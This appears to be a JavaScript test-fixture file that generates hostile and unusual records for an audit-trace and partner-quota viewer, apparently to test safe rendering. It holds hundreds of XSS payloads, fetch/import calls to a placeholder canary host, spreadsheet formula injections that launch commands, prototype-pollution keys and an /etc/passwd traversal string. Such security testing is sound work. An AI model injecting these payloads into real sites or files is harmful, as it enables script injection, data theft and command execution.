// Records that a page may trip over: scripts in every field, odd numbers, odd letters, equal times, big bodies.

const HANDLERS = ["onerror", "onload", "onmouseover", "onfocus autofocus tabindex=1", "ontoggle", "onanimationstart", "onpointerenter", "onbegin"];
const CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "fetch('//canary.invalid/f')", "import('//canary.invalid/m.js')"];
const CARRIERS = ["img src=x", "svg", "body", "details open", "video src=x", "input", "iframe src=javascript:alert(1)", "math href=javascript:alert(1)"];
const WHOLE = [
  "<script>alert(1)</script>",
  "<script src=//canary.invalid/s.js></script>",
  "<SCRIPT/SRC=//canary.invalid/s.js></SCRIPT>",
  "</script><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "\"><script>alert(1)</script>",
  "'><script>alert(1)</script>",
  "`><script>alert(1)</script>",
  "\" autofocus onfocus=alert(1) x=\"",
  "' autofocus onfocus=alert(1) x='",
  "\"};alert(1);//",
  "';alert(1);//",
  "\\';alert(1);//",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{@html '<img src=x onerror=alert(1)>'}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "//canary.invalid/x",
  "https://canary.invalid/x",
  "http://canary.invalid/pixel.gif",
  "<a href=javascript:alert(1)>click</a>",
  "<a href=//canary.invalid/x target=_blank>click</a>",
  "[click](javascript:alert(1))",
  "![x](//canary.invalid/i.png)",
  "<img src=//canary.invalid/i.png>",
  "<img srcset=//canary.invalid/i.png>",
  "<link rel=stylesheet href=//canary.invalid/c.css>",
  "<link rel=prefetch href=//canary.invalid/p>",
  "<base href=//canary.invalid/>",
  "<meta http-equiv=refresh content=0;url=//canary.invalid/>",
  "<form action=//canary.invalid/><button>go</button></form>",
  "<button form=x formaction=javascript:alert(1)>go</button>",
  "<object data=//canary.invalid/o></object>",
  "<embed src=//canary.invalid/e>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import '//canary.invalid/c.css';</style>",
  "<style>*{background:url(//canary.invalid/b)}</style>",
  "<div style=background:url(//canary.invalid/b)>",
  "<svg><script href=//canary.invalid/s.js /></svg>",
  "<svg><use href=//canary.invalid/u.svg#x /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<x contenteditable onblur=alert(1)>lose focus",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<\u0000script>alert(1)</script>",
  "<img\u000csrc=x\u000conerror=alert(1)>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<?xml-stylesheet href=//canary.invalid/c.xsl?>",
  "=HYPERLINK(\"//canary.invalid/x\",\"click\")",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "../../../../etc/passwd",
  "?tenant=*&text=x#<img src=x onerror=alert(1)>",
];

/** The lines of attack: at least 200, all different. */
export function attacks() {
  const made = CARRIERS.flatMap((carrier) => HANDLERS.map((handler, place) => `<${carrier} ${handler.replace(/^(\w+)/, `$1=${CALLS[place % CALLS.length]}`)}>`));
  const broken = CALLS.flatMap((call) => HANDLERS.map((handler) => `"'><img src=x ${handler.replace(/^(\w+)/, `$1="${call}"`)}>`));
  const split = CALLS.flatMap((call) => ["\" onmouseover=", "' onclick=", "/onpointerdown=", "\t\nonfocus="].map((start) => `x${start}${call} tabindex=0 autofocus `));
  return [...new Set([...WHOLE, ...made, ...broken, ...split])];
}

const NOW = Date.now();
const MINUTE = 60_000;

/** An operation in the cloud whose every text is the line, and in whose bodies it is key and value. */
function attackedTrace(line, number) {
  const body = { [line]: line, nested: { [line]: [line, { [line]: line }] }, text: JSON.stringify({ [line]: line }) };
  return {
    trace_id: `${line}-${number}`, trace_name: line, service_type: line, resource_type: line, resource_name: line, resource_id: line,
    trace_rating: ["normal", "warning", "incident"][number % 3], trace_type: "ApiCall", event_type: "system", code: line, api_version: line,
    source_ip: line, request_id: line, operation_id: line, tracker_name: line, enterprise_project_id: line, message: line,
    user: { name: line, id: line, user_name: line, access_key_id: line, type: line, domain: { name: line, id: line } },
    request: JSON.stringify(body), response: JSON.stringify(body), location_info: line, endpoint: line, [line]: line,
    time: NOW - number * MINUTE, record_time: NOW - number * MINUTE + 500,
  };
}

/** The life of a quota and of a customer whose ids and names are the line. */
function attackedPartner(line, number) {
  const time = (later) => new Date(NOW - number * MINUTE + later * 1000).toISOString();
  const quota = { quota_id: line, parent_quota_id: `p${line}`, indirect_partner_id: line, indirect_partner_name: line, indirect_partner_account_name: line };
  return [
    { id: `q1-${line}`, operator: line, operation_type: "10", ...quota, amount: 1000, operation_time: time(0), result: "0", remark: line },
    { id: `c1-${line}`, operation_type: "1", quota_id: line, quota_type: 0, coupon_id: line, customer_id: line, operation_amount: 100, operation_time: time(1), result: "0", remark: line },
    { id: `c3-${line}`, operation_type: "3", quota_id: line, quota_type: 0, coupon_id: line, customer_id: line, operation_amount: 100, operation_time: time(2), result: "-1", remark: line },
    { trans_id: `a-${line}`, customer_id: line, customer_name: line, operation_type: "BEUNBIND", amount: "50.00", currency: "CNY", apply_scene: line, measure_id: 1, memo: line, operation_time: time(3) },
  ];
}

const plain = (number, more) => JSON.stringify({
  trace_id: `odd-${number}`, trace_name: "updateThing", service_type: "ODD", resource_type: "thing", resource_name: `thing-${number}`,
  resource_id: `r${number}`, trace_rating: "normal", trace_type: "ApiCall", code: "200", user: { name: "odd.user", domain: { name: "d" } },
  time: NOW - number * MINUTE, ...more,
});

/** Bodies that a reader of JSON may change: the numbers, keys and order must stay as they are. */
export const ODD_BODY =
  '{"10":"first","2":"second","big":9007199254740993,"huge":1e400,"minus":-0,"trailing":1.10,"twice":1,"twice":2,"__proto__":{"x":1},' +
  '"lone":"\\ud800","nul":"a\\u0000b","escaped":"\\u4e2d\\/","deep":[[[[[[[[[[1]]]]]]]]]],"empty":{},"none":[],"null":null}';

function oddRecords() {
  const spoofed = [
    ["admin\u202Etxt.exe", "a name turned around"], ["ad\u200Bmin", "a space of no width"], ["\u0430dmin", "a Cyrillic letter"],
    ["a\u0007b\u001b[31m", "controls"], ["\u{E0041}\u{E0042}tags", "tags"], ["x".repeat(10_000), "10,000 letters without a space"],
    ["名".repeat(300), "300 wide letters"], ["e\u0301 versus \u00e9", "two forms of one letter"], ["مرحبا world", "right to left"],
  ];
  const records = spoofed.map(([name, message], number) => plain(number, { resource_name: name, user: { name, domain: { name: "d" } }, message }));
  const odd = plain(50, { resource_name: "odd-body" });
  records.push(odd.slice(0, -1) + `,"request":${ODD_BODY},"response":${ODD_BODY}}`);
  records.push(plain(51, { resource_name: "1-megabyte", request: { payload: "y".repeat(1_000_000) } }));
  const wide = Object.fromEntries(Array.from({ length: 200 }, (_, field) => [`field_${field}`, { value: `v${field}`, at: field }]));
  records.push(plain(52, { resource_name: "200-fields", request: wide }));
  let deep = "1";
  for (let level = 0; level < 55; level++) deep = `{"l${level}":${deep}}`;
  records.push(plain(53, { resource_name: "55-deep" }).slice(0, -1) + `,"request":${deep}}`);
  records.push(plain(54, { resource_name: "bare", user: undefined, code: undefined, trace_type: undefined }));
  // Two states of one resource, for what changed between them.
  records.push(plain(56, { trace_id: "before", resource_id: "changed", resource_name: "changed", request: { size: 1, kept: "k", gone: true } }));
  records.push(plain(55, { trace_id: "after", resource_id: "changed", resource_name: "changed", request: { size: 2, kept: "k", added: [1] } }));
  return records;
}

/** Events of one millisecond: more than a page of them. */
const ties = () =>
  Array.from({ length: 500 }, (_, number) =>
    JSON.stringify({ trace_id: `tie-${number}`, trace_name: "tie", service_type: "TIE", resource_type: "t", resource_name: `n${number}`, trace_rating: "normal", time: NOW - 3_600_000 }));

/** The life of a quota, told in full: granted, issued from, recalled, recalled because of an unbind. */
function quotaLife() {
  const at = (days) => new Date(NOW - days * 86_400_000).toISOString();
  const quota = { parent_quota_id: "Q-0001", indirect_partner_id: "ip-1", indirect_partner_name: "经销商 B", indirect_partner_account_name: "reseller_b" };
  const coupon = (id, type, amount, days, more) => ({ id, operation_type: type, quota_id: "Q-0817", quota_type: 0, operation_amount: amount, operation_time: at(days), result: "0", ...more });
  const life = [
    { id: "g1", operator: "officer-li", operation_type: "10", quota_id: "Q-0817", ...quota, amount: 100000, operation_time: at(80), result: "0", remark: "年度额度" },
    coupon("i1", "1", 12400.5, 70, { coupon_id: "C-881", customer_id: "cust-k" }),
    coupon("i2", "1", 50000, 60, { coupon_id: "C-882", customer_id: "cust-k" }),
    coupon("i3", "1", 0.01, 50, { coupon_id: "C-883", customer_id: "cust-m" }),
    coupon("r1", "2", 4100, 40, { coupon_id: "C-881", customer_id: "cust-k" }),
    coupon("r2", "2", 1, 35, { coupon_id: "C-882", customer_id: "cust-k", result: "-1", remark: "额度不足" }),
    { trace_id: "unbind-k", trace_name: "applyUnbindOrSwitchCooperation", service_type: "PartnerCenter", resource_type: "customer", resource_name: "客户K", resource_id: "cust-k", trace_rating: "normal", trace_type: "ConsoleAction", code: "200", user: { name: "wang", domain: { name: "partner" } }, request: JSON.stringify({ customer_id: "cust-k", operation: "UNBIND" }), response: "", time: NOW - 30 * 86_400_000 },
    coupon("u1", "3", 1200, 30, { coupon_id: "C-882", customer_id: "cust-k" }),
    coupon("u2", "3", 800, 30, { coupon_id: "C-881", customer_id: "cust-k" }),
    { trans_id: "b1", customer_id: "cust-k", customer_name: "客户K", operation_type: "BEUNBIND", amount: "300.00", currency: "CNY", apply_scene: "", measure_id: 1, memo: "", operation_time: at(30) },
    { id: "d1", customer_id: "cust-k", budget_amount: 900, operation_type: "DELETE", operator: "system", budget_type: "MONTHLY", partner_corp_name: "partner", partner_account_name: "partner", operation_time: at(30) },
    { id: "rq", operator: "officer-li", operation_type: 11, quota_id: "Q-0817", ...quota, amount: 10000, operation_time: at(20), result: "0", remark: "收回部分" },
  ];
  return life.map((record) => JSON.stringify(record));
}

/** What cannot be decoded and so is kept in quarantine. */
const broken = () => [...attacks().slice(0, 20), '{"no":"known format"}', '{"trace_id":"x","trace_name":', "[1,2"];

/** Records by tenant. */
export function specialRecords() {
  const lines = attacks();
  if (lines.length < 200) throw new Error(`only ${lines.length} lines of attack`);
  const attacked = lines.flatMap((line, number) => [attackedTrace(line, number), ...attackedPartner(line, number)]);
  return [
    ["xss", attacked.map((record) => JSON.stringify(record))],
    ["odd", oddRecords()],
    ["ties", ties()],
    ["life", quotaLife()],
    ["broken", broken()],
  ];
}
